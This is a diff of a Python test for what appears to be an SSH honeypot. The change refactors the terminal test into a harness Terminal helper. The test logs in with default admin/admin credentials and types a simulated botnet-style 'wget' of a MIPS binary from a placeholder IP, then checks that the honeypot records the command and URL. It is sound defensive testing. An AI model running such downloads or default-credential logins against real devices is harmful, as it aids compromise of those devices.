@@ -2,13 +2,10 @@
 
 import hashlib
 import os
-import pty
 import re
-import select
 import subprocess
-import time
 
-from harness import LIMIT_S, Sensor, check, equal, run, wait_until
+from harness import LIMIT_S, Sensor, Terminal, check, equal, run, wait_until
 
 PAYLOAD = b"#!/bin/sh\n# Komainu was here: this is a text file and nothing else.\n" + bytes(range(256)) * 40
 OPTIONS = [
@@ -96,30 +93,15 @@ def a_key(sensor):
 @check
 def a_terminal(sensor):
     before = sessions(sensor)
-    master, slave = pty.openpty()
     command = ["sshpass", "-p", "admin", "ssh", "-tt", "-p", str(sensor.port(22)), *OPTIONS, "admin@127.0.0.1"]
-    client = subprocess.Popen(command, stdin=slave, stdout=slave, stderr=slave, start_new_session=True)
-    os.close(slave)
-    seen = b""
-
-    def until(end):
-        nonlocal seen
-        deadline = time.monotonic() + LIMIT_S
-        while end not in seen:
-            if not select.select([master], [], [], max(0, deadline - time.monotonic()))[0]:
-                raise AssertionError(f"{end} was not seen, but {seen!r}")
-            seen += os.read(master, 4096)
-        before, seen = seen, b""
-        return before
-
-    until(b"~ # ")
-    os.write(master, b"cd /tmp && echo $((6*7))\r")
-    equal(b"\r\n42\r\n" in until(b"/tmp # "), True)
-    os.write(master, b"wget http://192.0.2.9/bins/k.mips\r")
-    until(b"/tmp # ")
-    os.write(master, b"exit 3\r")
-    equal(client.wait(LIMIT_S), 3)
-    os.close(master)
+    terminal = Terminal(command)
+    terminal.until(b"~ # ")
+    terminal.enter(b"cd /tmp && echo $((6*7))")
+    equal(b"\r\n42\r\n" in terminal.until(b"/tmp # "), True)
+    terminal.enter(b"wget http://192.0.2.9/bins/k.mips")
+    terminal.until(b"/tmp # ")
+    terminal.enter(b"exit 3")
+    equal(terminal.wait(), 3)
     summary = last(sensor, before)
     equal([one["line"] for one in summary["commands"]][0], "cd /tmp && echo $((6*7))")
     equal(summary["urls"][0]["url"], "http://192.0.2.9/bins/k.mips")
